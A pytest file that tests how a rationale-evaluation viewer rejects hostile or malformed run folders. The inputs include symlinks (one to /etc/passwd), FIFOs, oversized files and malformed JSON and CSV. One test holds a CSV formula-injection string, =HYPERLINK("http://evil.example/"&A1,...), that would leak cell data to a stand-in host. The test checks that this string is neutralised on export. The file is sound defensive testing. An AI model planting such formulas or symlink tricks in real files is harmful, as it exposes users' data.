"""Run folders of strangers: links out of them, wrong shapes and sizes, in every reader."""

from __future__ import annotations

import json
import os
import random
import shutil
from contextlib import suppress

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from rationale_viewer.compute.stored import origin_of, read_stored, stored_methods
from rationale_viewer.session.runs import draw_curve, read_run, together

from eraser import InputError
from eraser.files.cells import as_csv
from eraser.load import load
from rationale.evaluation.stored import run_folder as run_files
from rationale.evaluation.stored.run_folder import own_file, read_table
from rationale.report.figures import FIGURES
from rationale.report.several.compare import compared
from tests.helpers.app.pages import checked
from tests.helpers.app.runs import SPEEDS, write
from tests.helpers.app.stored import write_stored
from tests.helpers.command_line import run
from tests.helpers.made_runs import run_folder

CANNOT = "^this run cannot be read: "
F1 = ("token_f1", "gold", "attention")
TWO = {F1: {"e0": (0.5,), "e1": (0.25,)}}


@pytest.fixture
def folder(tmp_path):
    return write(tmp_path / "runs" / "one")


def facts(folder, **changes):
    found = json.loads((folder / "scores.json").read_text())
    found["run"] |= changes
    (folder / "scores.json").write_text(json.dumps(found))


@pytest.mark.parametrize("name", ["scores.csv", "paired.csv", "curves.csv", "fairness.csv", "scores.json"])
def test_a_link_inside_a_run_is_not_followed(folder, tmp_path, name):
    secret = tmp_path / "secret"
    secret.write_text("method\nsecret\n")
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(secret)
    message = f"{CANNOT}{folder}/{name}: expected a file of the run's own, got a link$"
    with pytest.raises(InputError, match=message):
        read_run(folder)


def test_links_of_a_run_that_is_compared_are_not_followed(tmp_path):
    good, odd = run_folder(tmp_path / "good", TWO), run_folder(tmp_path / "odd", TWO)
    for name in ("per_example.parquet", "scores.json"):
        (odd / name).unlink()
        (odd / name).symlink_to(good / name)
        with pytest.raises(InputError, match=f"{CANNOT}{odd}/{name}: .*got a link$"):
            compared([good, odd])


def test_links_among_stored_rationales_are_not_listed_and_not_read(tmp_path, sample):
    kept = write_stored(tmp_path / "kept", sample, ["lime"])
    one = write_stored(tmp_path / "one", sample, ["attention"])
    link = one / "predictions" / "mine.jsonl"
    link.symlink_to(kept / "predictions" / "lime.jsonl")
    assert list(stored_methods(one)) == ["attention"]
    with pytest.raises(InputError, match=f"{CANNOT}{link}: .*got a link$"):
        read_stored(link, sample)
    shutil.rmtree(one / "predictions")
    (one / "predictions").symlink_to(kept / "predictions")
    assert stored_methods(one) == {}
    with pytest.raises(InputError, match=f"{CANNOT}{one}/predictions: .*got a link$"):
        read_stored(one / "predictions" / "lime.jsonl", sample)


def test_a_fifo_is_not_waited_for(folder):
    (folder / "scores.csv").unlink()
    os.mkfifo(folder / "scores.csv")
    with pytest.raises(InputError, match=f"{CANNOT}.*expected a file, got something else of this name$"):
        read_run(folder)


def test_a_file_that_is_too_large_is_not_read(folder, monkeypatch):
    monkeypatch.setattr(run_files, "MOST_BYTES", {".csv": 100, ".json": 100})
    with pytest.raises(
        InputError, match=rf"{CANNOT}.*scores.csv: expected a file of at most 100 bytes, got "
    ):
        read_run(folder)
    with (folder / "huge.csv").open("wb") as file:  # takes no room on the disk
        file.truncate(2**40)
    monkeypatch.undo()
    with pytest.raises(InputError, match="at most 67,108,864 bytes, got 1,099,511,627,776$"):
        own_file(folder, "huge.csv")


BAD_FACTS = {
    "settings": ([], "x", {"dataset": 3}, {"model": ["x"]}, {"deep": [[[[[1]]]]]}),
    "budgets": ({}, "gold", [1], [["gold"]]), "notes": ("x", [3]), "intervals": ([], None, 3),
    "device": ([],),
}  # fmt: skip


@pytest.mark.parametrize(("name", "value"), [(n, v) for n, values in BAD_FACTS.items() for v in values])
def test_facts_of_another_shape_are_told(folder, name, value):
    facts(folder, **{name: value})
    with pytest.raises(InputError, match=f"{CANNOT}{folder}/scores.json: expected "):
        read_run(folder)


@pytest.mark.parametrize(
    "text", ["", "{", "[]", "3", '{"run": []}', "[" * 10**5, '{"run": {"a": 1' + "0" * 9999]
)
def test_json_of_anything_else_is_told_in_one_line(folder, tmp_path, text):
    (folder / "scores.json").write_text(text)
    for read in (read_run, origin_of, lambda f: compared([run_folder(tmp_path / "other", TWO), f])):
        with pytest.raises(InputError, match=f"{CANNOT}{folder}/scores.json: ") as caught:
            read(folder)
        assert len(str(caught.value).splitlines()) == 1
        assert len(str(caught.value)) < 400


BAD_CELLS = {
    "value": ("x", "inf", "1e300", "0.1.2"), "low": ("-inf",), "n": ("", "-1", "0.5", "1e99"),
    "better": ("sideways",), "method": ("m" * 501,),
}  # fmt: skip


@pytest.mark.parametrize(("column", "cell"), [(c, x) for c, cells in BAD_CELLS.items() for x in cells])
def test_a_cell_of_another_kind_is_told_with_its_line(folder, column, cell):
    table = pd.read_csv(folder / "scores.csv", dtype=str, keep_default_na=False)
    table.loc[1, column] = cell
    table.to_csv(folder / "scores.csv", index=False)
    with pytest.raises(InputError, match=rf"{CANNOT}{folder}/scores.csv(:3)?: expected .*") as caught:
        read_run(folder)
    assert len(str(caught.value)) < 400


def test_a_number_that_stands_twice_is_refused(folder):
    table = pd.read_csv(folder / "scores.csv", keep_default_na=False)
    pd.concat([table, table.iloc[:1]]).to_csv(folder / "scores.csv", index=False)
    with pytest.raises(
        InputError, match="expected each method, budget and metric once, got one of them twice"
    ):
        read_run(folder)


def test_quoted_texts_are_read_as_they_were(tmp_path):
    link = '=HYPERLINK("http://evil.example/"&A1,"x")'
    table = pd.DataFrame(
        {"method": [link, "-x", "'tis", "-"], "n": [1, 2, 3, 4], "value": [-0.5, None, 2.0, 0]}
    )
    (tmp_path / "scores.csv").write_text(as_csv(table))
    assert f"'{link[:10]}" in (tmp_path / "scores.csv").read_text()
    found = read_table(tmp_path, "scores.csv", list(table))
    pd.testing.assert_frame_equal(found, table.astype({"method": object}))


PARQUETS = {
    "ids that are numbers": ({"example": [1, 2]}, {"a / b / c": [[0.5], [0.5]]}),
    "the same id twice": ({"example": ["x", "x"]}, {"token_f1 / gold / a": [[0.5], [0.5]]}),
    "no id": ({"example": ["x", None]}, {"token_f1 / gold / a": [[0.5], [0.5]]}),
    "texts for numbers": ({"example": ["x", "y"]}, {"token_f1 / gold / a": [["0.5"], ["0.5"]]}),
    "no lists": ({"example": ["x", "y"]}, {"token_f1 / gold / a": [0.5, 0.5]}),
    "rows of other lengths": (
        {"example": ["e0", "e1"]},
        {"token_f1 / gold / attention": [[0.5], [0.5, 0.5]]},
    ),
    "columns of another metric": ({"example": ["x", "y"]}, {"iou_f1_eraser / gold / a": [[0.5], [0.5]]}),
}


@pytest.mark.parametrize("what", PARQUETS)
def test_numbers_of_another_shape_are_told(tmp_path, what, capsys, monkeypatch):
    good, odd = run_folder(tmp_path / "good", TWO), run_folder(tmp_path / "odd", TWO)
    ids, values = PARQUETS[what]
    for folder in (good, odd) if what.startswith("columns") else (odd,):
        pq.write_table(pa.table(ids | values), folder / "per_example.parquet")
    code, out, err = run(capsys, monkeypatch, "compare", good, odd, "--out", tmp_path / "compare")
    assert (code, out) == (2, "")
    assert err.startswith("error: this run cannot be read: ")
    assert len(err.splitlines()) == 1
    assert not (tmp_path / "compare").exists()


CELLS = ("", "x", "nan", "-", "-1", "0", "1e9", "True", "$x$", "=1", "\x00", "gold", "random", "'", "２")


@pytest.mark.figures
@pytest.mark.parametrize("seed", [n if n < 8 else pytest.param(n, marks=pytest.mark.slow) for n in range(20)])
def test_spoilt_tables_are_told_or_drawn(folder, seed):
    """Each spoilt run is refused in one line, or every figure and table of it can be made."""
    draw = random.Random(seed)
    name = draw.choice([p.name for p in sorted(folder.glob("*.csv"))])
    table = pd.read_csv(folder / name, dtype=str, keep_default_na=False)
    for _ in range(draw.randint(1, 4)):
        table.iloc[draw.randrange(len(table)), draw.randrange(table.shape[1])] = draw.choice(CELLS)
    table = table.sample(frac=draw.choice([0.3, 1]), random_state=seed)
    table.to_csv(folder / name, index=False)
    with suppress(InputError):
        found = read_run(folder)
        together([found, found])
        for drawing in FIGURES.values():
            budget = found.budgets[0] if found.budgets else "gold"
            drawing.make(found.tables, budget)


@pytest.mark.figures
def test_a_spoilt_curve_is_told(tmp_path):
    for column, cell in (("flops", "x"), ("n", "-1")):
        pd.DataFrame(SPEEDS | {column: [cell, cell]}).to_csv(tmp_path / "speeds.csv", index=False)
        with pytest.raises(InputError, match=rf"{CANNOT}.*speeds.csv:2: expected a .*number"):
            draw_curve(tmp_path / "speeds.csv")


READ = {
    "Explain": ("predictions",), "Annotators": ("facts", "predictions"), "Errors": ("facts", "predictions"),
    "Scores": ("facts", "table", "link"), "Speed": ("table",),
}  # fmt: skip
SPOILT = [
    pytest.param(page, spoil, marks=[pytest.mark.slow] * (spoil not in READ[page]))  # of no matter there
    for page in READ
    for spoil in ("facts", "table", "link", "predictions")
]


@pytest.mark.parametrize(("page", "spoil"), SPOILT)
def test_every_page_tells_of_a_spoilt_run_and_stays(open_app, tmp_path, page, spoil):
    folder = write(tmp_path / "runs" / "one")
    write_stored(tmp_path / "other", load("sample"), ["lime"])
    (tmp_path / "other" / "predictions").rename(folder / "predictions")
    if spoil == "facts":
        facts(folder, settings=[], budgets=3)
    elif spoil == "table":
        (folder / "scores.csv").write_text("method,metric\n1\n")
    elif spoil == "link":
        (folder / "curves.csv").unlink()
        (folder / "curves.csv").symlink_to("/etc/passwd")
    else:
        (folder / "predictions" / "lime.jsonl").write_text('{"annotation_id": [], "rationales": {"a": 1}}\n')
    query = {"source": "run one"} if page in ("Annotators", "Errors") else {}
    at = checked(open_app(page, runs=[folder], **query))
    told = " ".join(c.value for c in at.code)
    if page == "Scores" and spoil != "predictions":
        assert "this run cannot be read: " in told
    if page in ("Annotators", "Errors") and spoil in ("facts", "predictions"):
        assert told


def test_a_mixture_of_runs_and_a_half_written_one_are_refused(tmp_path):
    """As a kill while one run's tables are written into another's folder would leave it."""
    from rationale_viewer.session.runs import read_run as shown

    from eraser.files.owned import MANIFEST
    from rationale.report.several.runs import read_run as compared
    from rationale.report.write import write_run
    from tests.helpers.made_runs import made

    for name, score in (("one", 3.0), ("other", 1.0)):
        scores = {"attention": [[score, 1.0, 2.0]], "random": [[1.0, 3.0, 0.2]]}
        write_run(*made(scores, [{0}]), tmp_path / name)
    one, other = tmp_path / "one", tmp_path / "other"
    compared(one)
    shown(one)
    (one / "per_example.parquet").write_bytes((other / "per_example.parquet").read_bytes())
    for read in (compared, shown):
        with pytest.raises(InputError) as error:
            read(one)
        expected = "the file per_example.parquet was changed after `write_run` wrote it"
        assert str(error.value) == f"{one}: {expected}"
    text = (other / MANIFEST).read_text().replace('"finished": true', '"finished": false')
    (other / MANIFEST).write_text(text)
    for read in (compared, shown):
        with pytest.raises(InputError, match="`write_run` has not finished this folder"):
            read(other)
